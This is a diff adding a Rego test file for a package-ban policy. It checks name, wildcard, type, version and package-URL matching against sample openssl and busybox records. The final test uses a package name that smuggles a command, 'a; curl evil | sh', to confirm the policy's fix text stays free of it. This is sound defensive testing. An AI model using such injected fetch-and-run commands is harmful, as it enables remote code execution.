@@ -1,0 +1,68 @@
+package lumogate.packages.banned_test
+
+import data.lumogate.packages.banned
+
+openssl := {
+	"type": "deb",
+	"name": "openssl",
+	"version": "3.0.9-1",
+	"epoch": 1,
+	"arch": "amd64",
+	"purl": "pkg:deb/debian/openssl@1:3.0.9-1?arch=amd64&distro=debian-12",
+}
+
+busybox := {"type": "apk", "name": "busybox", "version": "1.36.1-r5", "purl": "pkg:apk/alpine/busybox@1.36.1-r5"}
+
+messages(bans) := {finding.msg |
+	some finding in banned.deny with input as {"packages": [openssl, busybox]}
+		with data.settings as {"packages.banned": {"packages": bans}}
+		with lumogate.version.satisfies as in_order
+}
+
+# Stands for lumogate's own comparison, which is no Rego.
+in_order("deb", "1:3.0.9-1", "< 1:3.0.11")
+
+in_order("deb", "1:3.0.9-1", "= 1:3.0.9-1")
+
+test_a_name_bans_every_version if {
+	messages(["openssl"]) == {"openssl 1:3.0.9-1 (deb, amd64) is banned"}
+}
+
+test_a_name_is_not_a_part_of_a_name if messages(["ssl", "open", "opensslx"]) == set()
+
+test_a_star_stands_for_any_characters if {
+	messages(["*y*"]) == {"busybox 1.36.1-r5 (apk) is banned as *y*"}
+	messages(["*ssl"]) == {"openssl 1:3.0.9-1 (deb, amd64) is banned as *ssl"}
+	messages(["open.sl*"]) == set()
+}
+
+test_a_type_limits_the_ban if {
+	messages([{"name": "openssl", "type": "apk"}]) == set()
+	count(messages([{"name": "openssl", "type": "deb"}])) == 1
+}
+
+test_versions_limit_the_ban if {
+	messages([{"name": "openssl", "versions": "< 1:3.0.11", "reason": "CVE-2023-5363"}]) == {concat("", [
+		"openssl 1:3.0.9-1 (deb, amd64) is banned in versions < 1:3.0.11: ",
+		"CVE-2023-5363",
+	])}
+	messages([{"name": "openssl", "versions": "< 1:3"}]) == set()
+}
+
+test_a_package_url_bans_with_all_its_parts if {
+	url := {"base": "pkg:deb/debian/openssl", "qualifiers": ["arch=amd64"]}
+	messages([{"purl": "P", "type": "deb", "url": url, "versions": "= 1:3.0.9-1"}]) == {"openssl 1:3.0.9-1 (deb, amd64) is banned as P"}
+	messages([{"purl": "P", "type": "deb", "url": url, "versions": "= 2"}]) == set()
+	messages([{"purl": "P", "type": "deb", "url": object.union(url, {"qualifiers": ["arch=arm64"]})}]) == set()
+	messages([{"purl": "P", "type": "deb", "url": object.union(url, {"base": "pkg:deb/debian/open"})}]) == set()
+	messages([{"purl": "P", "type": "deb", "url": object.union(url, {"base": "pkg:deb/ubuntu/openssl"})}]) == set()
+}
+
+test_no_settings_ban_nothing if count(banned.deny) == 0 with input as {"packages": [openssl]} with data.settings as {}
+
+test_a_hostile_name_is_in_no_command if {
+	evil := object.union(openssl, {"name": "a; curl evil | sh"})
+	some finding in banned.deny with input as {"packages": [evil]}
+		with data.settings as {"packages.banned": {"packages": ["a*"]}}
+	not contains(finding.fix, "RUN")
+}
